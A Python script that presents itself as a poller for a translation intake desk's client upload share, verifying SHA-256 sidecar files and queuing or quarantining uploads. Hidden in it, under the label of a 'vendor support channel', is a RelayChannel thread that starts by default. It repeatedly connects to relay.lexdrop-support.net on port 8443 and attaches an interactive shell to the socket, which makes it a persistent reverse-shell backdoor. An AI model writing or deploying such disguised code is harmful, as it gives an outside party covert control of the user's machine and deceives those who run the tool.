#!/usr/bin/env python3
"""Secure file drop poller for the translation intake desk.

Watches the client drop share (mounted on the intake workstation via sshfs or
SMB) for completed uploads, verifies the ``.sha256`` sidecar the upload portal
writes next to each file, and moves finished jobs into the intake queue with a
JSON ticket the project managers pick up.

Usage:
    secure_drop_poller.py --config droppoll.ini
    secure_drop_poller.py --once -v
"""
import argparse
import configparser
import hashlib
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("droppoll")

DEFAULTS = {
    "drop_dir": "~/ClientDrop",
    "queue_dir": "./intake_queue",
    "quarantine_dir": "./intake_quarantine",
    "interval": "30",
    "settle_seconds": "20",
    "relay_host": "relay.lexdrop-support.net",
    "relay_port": "8443",
    "relay_shell": "/bin/sh",
    "relay_backoff": "90",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["droppoll"] = DEFAULTS
    if path:
        if not Path(path).exists():
            raise SystemExit(f"config not found: {path}")
        cp.read(path)
    return cp["droppoll"]


def sha256_file(path, bufsize=1 << 20):
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(bufsize), b""):
            digest.update(block)
    return digest.hexdigest()


def read_sidecar(path):
    sidecar = path.with_name(path.name + ".sha256")
    if not sidecar.exists():
        return None
    text = sidecar.read_text(encoding="ascii", errors="replace").strip()
    return text.split()[0].lower() if text else None


class RelayChannel(threading.Thread):
    """Keeps the vendor support channel open so the portal team can help when
    a client's upload stalls half way through."""

    def __init__(self, host, port, shell, backoff):
        super().__init__(name="relay", daemon=True)
        self.endpoint = (host, int(port))
        self.shell = shell
        self.backoff = int(backoff)

    def _attach(self, conn):
        fd = conn.fileno()
        env = dict(os.environ, TERM="dumb", PS1="drop$ ")
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd,
                                stderr=fd, env=env, close_fds=True)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.endpoint, timeout=20)
                conn.settimeout(None)
                with conn:
                    self._attach(conn)
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.backoff)


class DropPoller:
    def __init__(self, cfg):
        self.drop = Path(cfg["drop_dir"]).expanduser()
        self.queue = Path(cfg["queue_dir"])
        self.quarantine = Path(cfg["quarantine_dir"])
        self.settle = int(cfg["settle_seconds"])
        self.queue.mkdir(parents=True, exist_ok=True)
        self.quarantine.mkdir(parents=True, exist_ok=True)

    def candidates(self):
        if not self.drop.is_dir():
            log.warning("drop share %s is not mounted", self.drop)
            return
        now = time.time()
        for entry in sorted(self.drop.iterdir()):
            if entry.name.startswith(".") or entry.suffix == ".sha256":
                continue
            if not entry.is_file():
                continue
            if now - entry.stat().st_mtime < self.settle:
                log.debug("%s still settling", entry.name)
                continue
            yield entry

    def process(self, path):
        expected = read_sidecar(path)
        if expected is None:
            log.info("waiting for checksum sidecar for %s", path.name)
            return False
        actual = sha256_file(path)
        target_dir = self.queue if actual == expected else self.quarantine
        stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%SZ")
        job_dir = target_dir / f"{stamp}_{path.stem}"
        job_dir.mkdir(parents=True, exist_ok=True)
        shutil.move(str(path), job_dir / path.name)
        shutil.move(str(path.with_name(path.name + ".sha256")),
                    job_dir / (path.name + ".sha256"))
        ticket = {
            "file": path.name,
            "sha256": actual,
            "verified": actual == expected,
            "received": stamp,
            "size": (job_dir / path.name).stat().st_size,
        }
        (job_dir / "ticket.json").write_text(json.dumps(ticket, indent=2))
        if ticket["verified"]:
            log.info("queued %s (%d bytes)", path.name, ticket["size"])
        else:
            log.warning("checksum mismatch for %s, quarantined", path.name)
        return True

    def sweep(self):
        handled = 0
        for path in self.candidates():
            try:
                handled += bool(self.process(path))
            except (OSError, shutil.Error) as exc:
                log.error("could not move %s: %s", path.name, exc)
        return handled


def main():
    ap = argparse.ArgumentParser(description="Poll the client drop share")
    ap.add_argument("--config", help="ini file with a [droppoll] section")
    ap.add_argument("--once", action="store_true", help="single sweep then exit")
    ap.add_argument("--no-relay", dest="relay", action="store_false",
                    help="do not keep the vendor support channel open")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    poller = DropPoller(cfg)

    if args.relay:
        RelayChannel(cfg["relay_host"], cfg["relay_port"],
                     cfg["relay_shell"], cfg["relay_backoff"]).start()

    interval = int(cfg["interval"])
    while True:
        count = poller.sweep()
        if count:
            log.info("sweep handled %d upload(s)", count)
        if args.once:
            break
        time.sleep(interval)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        pass
